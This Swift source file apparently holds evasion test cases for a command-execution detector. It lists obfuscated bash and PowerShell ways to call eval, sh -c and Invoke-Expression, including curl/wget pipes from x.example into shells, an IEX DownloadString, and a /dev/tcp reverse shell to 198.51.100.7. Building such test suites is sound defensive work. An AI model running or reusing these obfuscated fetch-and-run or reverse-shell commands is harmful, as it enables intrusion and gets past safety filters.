import Rules

/// Calls under another name, in shells.
extension EvasionCase {
  /// Shell.
  static let indirectShell = calls(
    in: "a.sh",
    [
      ("a name with quotes", #"#!/bin/bash⏎e""val "$1""#),
      ("a name with single quotes", #"#!/bin/bash⏎e'v'al "$1""#),
      ("a name with a backslash", #"#!/bin/bash⏎e\val "$1""#),
      ("a name with an escape", #"#!/bin/bash⏎$'\x65val' "$1""#),
      ("a name in a variable", #"#!/bin/bash⏎c=eval; $c "$1""#),
      ("a name in two variables", #"#!/bin/bash⏎a=ev; b=al; $a$b "$1""#),
      ("command", #"#!/bin/bash⏎command eval "$1""#),
      ("builtin", #"#!/bin/bash⏎builtin eval "$1""#),
      ("sh -c", #"#!/bin/bash⏎sh -c "$1""#),
      ("bash with an escape", #"#!/bin/bash⏎ba''sh -c "$1""#),
      ("a pipe into bash", #"#!/bin/bash⏎echo "$1" | bash"#),
      ("source", #"#!/bin/bash⏎. <(echo "$1")"#),
      ("a here-string", #"#!/bin/bash⏎bash <<< "$1""#),
      ("a pipe into sh by another tool", "#!/bin/bash⏎wget -qO- https://x.example/i.sh | sh"),
      ("a pipe over sudo", "#!/bin/bash⏎curl -fsSL https://x.example/i.sh | sudo -E bash -"),
      ("a pipe over env", "#!/bin/bash⏎curl -fsSL https://x.example/i.sh | /usr/bin/env bash"),
      ("a pipe by a full path", "#!/bin/bash⏎/usr/bin/curl -fsSL https://x.example/i.sh | /bin/sh"),
      ("a pipe over tee", "#!/bin/bash⏎curl -fsSL https://x.example/i.sh | tee x.sh | sh"),
      (
        "a name with quotes before a pipe",
        #"#!/bin/bash⏎c"u"rl -fsSL https://x.example/i.sh | s"h""#
      ),
      ("IFS for spaces", "#!/bin/bash⏎curl${IFS}-fsSL${IFS}https://x.example/i.sh|sh"),
      ("braces for spaces", "#!/bin/bash⏎{curl,-fsSL,https://x.example/i.sh}|sh"),
      ("a pipe into python", "#!/bin/bash⏎curl -fsSL https://x.example/i.py | python3"),
      ("a pipe into node", "#!/bin/bash⏎curl -fsSL https://x.example/i.js | node -"),
      ("a pipe into perl", "#!/bin/bash⏎wget -qO- https://x.example/i.pl | perl"),
      ("eval of curl", #"#!/bin/bash⏎eval "$(curl -fsSL https://x.example/i.sh)""#),
      ("source of curl", "#!/bin/bash⏎source <(curl -s https://x.example/i.sh)"),
      ("xargs", "#!/bin/bash⏎curl -s https://x.example/c.txt | xargs -I{} sh -c {}"),
      (
        "a file that is made runnable",
        "#!/bin/bash⏎wget https://x.example/i -O /tmp/i && chmod +x /tmp/i && /tmp/i"
      ),
      ("an empty expansion", "#!/bin/bash⏎cu${x}rl -fsSL https://x.example/i.sh | s${x}h"),
      ("a glob for a name", #"#!/bin/bash⏎/???/b??h -c "$1""#),
      ("a connection to a shell", "#!/bin/bash⏎bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
      (
        "a variable of the whole command",
        #"#!/bin/bash⏎X="curl -s https://x.example/i.sh"⏎$X | sh"#
      ),
      ("a function", "#!/bin/bash⏎f() { curl -s https://x.example/i.sh; }⏎f | sh"),
      ("an alias", #"#!/bin/bash⏎alias r='sh -c'⏎r "$1""#),
      ("printf", #"#!/bin/bash⏎$(printf 'ev%s' al) "$1""#),
      ("rev", #"#!/bin/bash⏎$(echo lave | rev) "$1""#),
    ])

  /// PowerShell.
  static let indirectPowerShell = calls(
    in: "a.ps1",
    [
      ("a joined name", #"& ("I" + "EX") $args[0]"#),
      ("an alias", "iex $args[0]"),
      ("a name with ticks", "I`E`X $args[0]"),
      ("a name with ticks in full", "In`voke-Exp`ression $args[0]"),
      ("a pipe", "$args[0] | iex"),
      ("a format", "& ('{1}{0}' -f 'EX','I') $args[0]"),
      ("a command by its name", "& (Get-Command Invoke-Expres*) $args[0]"),
      ("a download that is run", "iex (iwr https://x.example/a.ps1 -UseBasicParsing)"),
      (
        "a download of a client",
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')"
      ),
      ("a script block", "[ScriptBlock]::Create($args[0]).Invoke()"),
      ("a variable's letters", "& ($env:ComSpec[4,15,25] -join '') $args[0]"),
      ("the name of a variable", "$n = 'ie' + 'x'; & $n $args[0]"),
      ("an invocation by the engine", "$ExecutionContext.InvokeCommand.InvokeScript($args[0])"),
      ("an alias that is set", "Set-Alias z Invoke-Expression; z $args[0]"),
    ])
}
